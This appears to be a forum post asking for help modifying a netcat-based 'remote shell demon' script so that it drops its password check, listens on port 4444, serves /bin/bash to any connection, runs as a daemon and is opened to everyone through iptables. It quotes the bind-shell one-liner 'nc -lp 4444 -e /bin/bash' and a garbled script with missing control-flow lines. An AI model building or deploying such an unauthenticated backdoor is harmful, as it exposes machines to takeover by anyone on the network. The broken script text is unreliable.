need help modifying this script, like nc -lp 4444 -e /bin/bash deamon1 want the login part gone

2 want it to listen on 4444

3 want it to send /bin/bash on connect

4 and auto start as a daemon

5 open port 4444 to everybody in ip tables

pls help ?

Remote shell demon
With the following shellscript, you canstart your personal remote shell demon:

# pershd - personal shell demon
# 2003-02-17 Johannes Franken -

# on first invocation, export $PW and $port to subshells
export PW port
if [ $1 ] ; then
echo -n pass:
read PW# do we know the port to listen on?
if [ ! $port ]; then
echo USAGE: $0 port ;

# wait for further connections (veiling params)
echo "-l -p$port -e $0" | nc 2>/dev/null &
[ $1 ] && exit; # first invocation exit here

# ask for password
unset p
until [ "$p" = "$PW" ]; do
echo -n pass:
read p

# received good password. present a shell
bash --noediting-i

When I start this script, it asks me to tell it a password andthen waits for connections in thebackground:

jfranken@tp:~$ ./pershd 1234